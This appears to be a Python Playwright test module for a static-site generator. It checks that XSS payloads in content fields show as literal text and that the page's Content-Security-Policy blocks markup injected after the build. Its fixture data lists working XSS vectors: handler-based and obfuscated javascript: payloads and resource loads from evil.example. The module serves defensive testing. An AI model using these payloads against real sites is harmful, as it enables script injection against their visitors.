"""Hostile content in real Chromium: nothing from F1/F2 fires, nothing is requested from elsewhere.

Two layers are proven. Plain-text payloads (topic and page titles, the home title, a glossary term,
a unit, citation parts) build, and must show as text in the navigation, the <title>, headings and
links. Markdown payloads are refused by the build, so the browser's own net is proven by writing
them into the built pages after the audit (as a bypass of every earlier stage would): the
Content-Security-Policy each page carries must stop every script, handler and outside request.
Every payload calls alert() and console.log('XSS-...') and loads from evil.example, so both a
dialog, a console marker and a proxy record would show."""

from __future__ import annotations

import shutil
from datetime import date
from pathlib import Path

import pytest

from . import harness, search_ui

FIXTURE = harness.ROOT / "tests" / "fixtures" / "minimal"
TODAY = date(2026, 6, 1)
MARK = "alert('XSS-{0}');console.log('XSS-{0}')"
TITLE = "Example <img src=\"x\"onerror=\"" + MARK.format("title") + "\">"  # F1h: no space before on...=

PLAIN = {
    "content/topics/example-topic.yml": [("title: An example topic", f"title: '{TITLE.replace(chr(39), chr(39) * 2)}'")],
    "content/pages/about.yml": [("title: About this site", "title: 'About </title><svg/onload=alert(\"XSS-about\")>'")],
    "content/site.yml": [("home_title: Test site", "home_title: 'Test site <img src=x onerror=alert(\"XSS-home\")>'")],
    "content/glossary.yml": [("term: remission", "term: 'remission <script>console.log(\"XSS-term\")</script>'")],
    "content/facts.yml": [("unit: sessions", "unit: 'sessions <script>console.log(\"XSS-unit\")</script>'")],
    "content/sources.yml": [("volume: 1", "volume: '1<script>console.log(\"XSS-volume\")</script>'"),
                            ("url: https://example.org/study-b", "url: https://x.example/)<img/src=https://evil.example/u.gif>")],
}

# Not here, on purpose: <iframe src="https://..."> (with frame-src 'none' Chromium still opens a
# CONNECT to the host) and <meta http-equiv="refresh"> (no policy stops it). The policy cannot be
# the only net for these two; the build refuses both (MARKDOWN-UNSAFE/MARKDOWN-HTML, SITE-AUDIT).
INJECTED = "\n".join([
    "<script>" + MARK.format("inline") + "</script>",
    '<script src="https://evil.example/x.js"></script>',
    '<div><img src="x" onerror="' + MARK.format("onerror") + '"></div>',
    "<svg><animate onbegin=\"" + MARK.format("svg") + "\" attributeName=x dur=1s></animate></svg>",
    '<a id="js" href="jav&#x61;script:' + MARK.format("href") + '">tap</a>',
    '<input autofocus onfocus="' + MARK.format("focus") + '">',
    '<img src="https://evil.example/track.gif" alt="">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<span style="background:url(https://evil.example/css.gif)">styled</span>',
    '<video src="https://evil.example/v.mp4" autoplay muted></video>',
    '<img srcset="//evil.example/set.gif 2x" alt="">',
    '<svg><use href="https://evil.example/s.svg#a"></use></svg>',
    '<object data="https://evil.example/o"></object>',
])


@pytest.fixture(scope="module")
def hostile_site(tools: None, tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = tmp_path_factory.mktemp("hostile") / "project"
    harness.make_project(project, FIXTURE)
    for name, edits in PLAIN.items():
        path = project / name
        text = path.read_text(encoding="utf-8")
        for old, new in edits:
            assert old in text, (name, old)
            text = text.replace(old, new, 1)
        path.write_text(text, encoding="utf-8")
    site = harness.build_site(project, today=TODAY)
    # A copy of the topic page with every Markdown-field payload written in after the audit.
    bypass = site / "bypass"
    shutil.copytree(site / "example-topic", bypass)
    page = bypass / "index.html"
    html = page.read_text(encoding="utf-8")
    assert "Content-Security-Policy" in html
    page.write_text(html.replace("</article>", INJECTED + "\n</article>", 1), encoding="utf-8")
    return site


@pytest.fixture(scope="module")
def hostile_server(hostile_site: Path):
    with harness.SiteServer(hostile_site) as running:
        yield running


def _open(browser, server, path: str, click: str | None):
    """One page in its own context, loaded, with every dialog, XSS marker, policy violation and
    outside request recorded as it happens."""
    seen: dict[str, list[str]] = {"dialogs": [], "console": [], "outside": [], "violations": []}
    blocked: list[str] = []
    context = browser.new_context()
    context.set_default_timeout(15_000)
    context.on("request", lambda r: None if harness.same_origin(r.url, server.origin) else seen["outside"].append(r.url))
    # Refused inside the browser: by the policy ("csp"), or by SVG <use>'s same-origin rule ("origin").
    context.on("requestfailed", lambda r: blocked.append(r.url) if (r.failure or "").lower() in {"csp", "origin"} else None)
    page = context.new_page()
    page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))
    page.on("console", lambda m: seen["console"].append(m.text) if "XSS" in m.text else None)
    page.add_init_script(
        "document.addEventListener('securitypolicyviolation', e => "
        "console.log('CSP ' + e.violatedDirective + ' ' + e.blockedURI))"
    )
    page.on("console", lambda m: seen["violations"].append(m.text) if m.text.startswith("CSP ") else None)
    page.goto(server.url(path))
    page.wait_for_load_state("networkidle")
    if click:
        page.click(click)
    return seen, blocked, context, page


def _visit(browser, server, paths: list[str], *, click: str | None = None) -> dict[str, dict[str, list[str]]]:
    """Open every path, then wait once for all of them: a payload timed to fire after load gets
    at least 1.5 s on every page, and the pages wait side by side instead of one by one."""
    opened = {path: _open(browser, server, path, click) for path in paths}
    *_, last_opened = opened[paths[-1]]
    last_opened.wait_for_timeout(1500)
    results: dict[str, dict[str, list[str]]] = {}
    for path, (seen, blocked, context, page) in opened.items():
        # Chromium announces a request before the policy refuses it; refused ones never leave the page.
        seen["blocked"] = sorted(set(blocked))
        seen["outside"] = [url for url in seen["outside"] if url not in blocked]
        seen["title"] = [page.title()]
        seen["nav"] = page.locator("nav.md-nav--primary").all_inner_texts()
        context.close()
        results[path] = seen
    return results


def test_plain_text_payloads_show_as_text_and_nothing_fires(browser, hostile_server, proxy) -> None:
    proxy.requests.clear()
    paths = ["/", "/example-topic/", "/about/", "/glossary/", "/sources/", "/404.html"]
    for path, seen in _visit(browser, hostile_server, paths).items():
        assert (path, seen["dialogs"], seen["console"], seen["outside"]) == (path, [], [], [])
        assert (path, seen["violations"]) == (path, [])  # our own pages never trip the policy
        assert any(TITLE in text for text in seen["nav"]), seen["nav"]
    assert proxy.site_requests() == []


def test_the_title_is_the_literal_text(browser, hostile_server) -> None:
    seen = _visit(browser, hostile_server, ["/example-topic/", "/about/"])
    assert seen["/example-topic/"]["title"][0].startswith(TITLE)
    assert seen["/about/"]["title"][0].startswith('About </title><svg/onload=alert("XSS-about")>')


def test_the_policy_stops_payloads_written_past_every_check(browser, hostile_server, proxy) -> None:
    proxy.requests.clear()
    seen = _visit(browser, hostile_server, ["/bypass/"], click="#js")["/bypass/"]
    assert (seen["dialogs"], seen["console"], seen["outside"]) == ([], [], [])
    assert proxy.site_requests() == []
    assert seen["violations"], "the policy was never exercised"
    assert {"https://evil.example/x.js", "https://evil.example/track.gif", "https://evil.example/x.css"} <= set(seen["blocked"])


def test_search_still_works_under_the_policy(browser, hostile_server) -> None:
    context = browser.new_context()
    page = context.new_page()
    violations: list[str] = []
    page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
    page.goto(hostile_server.url("/example-topic/"))
    search_ui.open_search(page)
    search_ui.type_query(page, "second")
    search_ui.wait_for_results(page, "second")
    assert search_ui.visible_result_links(page) and violations == []
    context.close()
